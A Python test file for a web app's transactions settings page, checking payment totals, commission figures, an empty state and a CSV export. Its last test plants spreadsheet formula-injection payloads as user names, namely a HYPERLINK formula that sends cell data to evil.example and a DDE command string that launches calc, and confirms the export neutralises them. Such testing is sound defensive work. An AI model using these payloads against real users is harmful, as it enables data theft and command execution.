"""Settings > Transactions: every payment of the user on both sides, with totals, CSV and invoices."""

from __future__ import annotations

import csv
import io

from models.cases import CaseState
from payments.invoices import render_case_invoices
from tests.cases.factories import drive, make_case
from tests.factories import make_user
from tests.payments.factories import make_designer


def test_a_user_sees_their_cases_as_client_and_as_designer_with_totals(client, login):
    both = make_user(client=True, designer=True, name="Sofia Rossi Digital")
    sold = drive(make_case(make_user(name="Northside Lab"), both, amount_cents=12_000), CaseState.completed)
    bought = drive(make_case(both, make_designer(), amount_cents=5_000), CaseState.in_progress)
    render_case_invoices(sold.id)
    make_case(make_user(), make_designer())  # someone else's

    login(both)
    page = client.get("/settings/transactions").get_data(as_text=True)

    assert sold.reference in page and bought.reference in page and "Northside Lab" in page
    assert "$109.20" in page and "$10.80" in page  # earnings of the sale, platform commission
    assert "$50.00" in page  # in escrow for the purchase
    assert page.count("/invoices/") == 2  # service + commission invoices of the sale

    export = client.get("/settings/transactions.csv")
    assert export.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    by_case = {row["case"]: row for row in rows}
    assert set(by_case) == {sold.reference, bought.reference}
    assert (
        by_case[sold.reference]["role"],
        by_case[sold.reference]["amount"],
        by_case[sold.reference]["fee"],
        by_case[sold.reference]["net"],
    ) == ("designer", "120.00", "10.80", "109.20")
    assert by_case[bought.reference]["role"] == "client" and by_case[bought.reference]["status"] == "captured"


def test_no_transactions_shows_an_empty_state(client, login):
    login(make_user())
    page = client.get("/settings/transactions").get_data(as_text=True)
    assert "No transactions yet" in page and "Export CSV" not in page


def test_the_csv_never_hands_a_spreadsheet_a_formula(client, login):
    # given a counterpart whose display name is a spreadsheet formula
    attacker = make_user(name='=HYPERLINK("http://evil.example/?x="&A1,"Invoice")')
    designer = make_designer()
    designer.display_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    drive(make_case(attacker, designer, amount_cents=5_000), CaseState.in_progress)
    drive(make_case(make_user(name="\t+Tabbed Lab"), designer, amount_cents=3_000), CaseState.in_progress)

    # when each side exports its transactions
    login(designer)
    rows = list(csv.DictReader(io.StringIO(client.get("/settings/transactions.csv").get_data(as_text=True))))
    client.post("/account/logout")
    login(attacker)
    mine = list(csv.DictReader(io.StringIO(client.get("/settings/transactions.csv").get_data(as_text=True))))

    # then the names arrive as text, and amounts stay numbers
    assert sorted(row["counterpart"] for row in rows) == [
        "'\t+Tabbed Lab",
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Invoice")',
    ]
    assert mine[0]["counterpart"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and mine[0]["amount"] == "50.00"
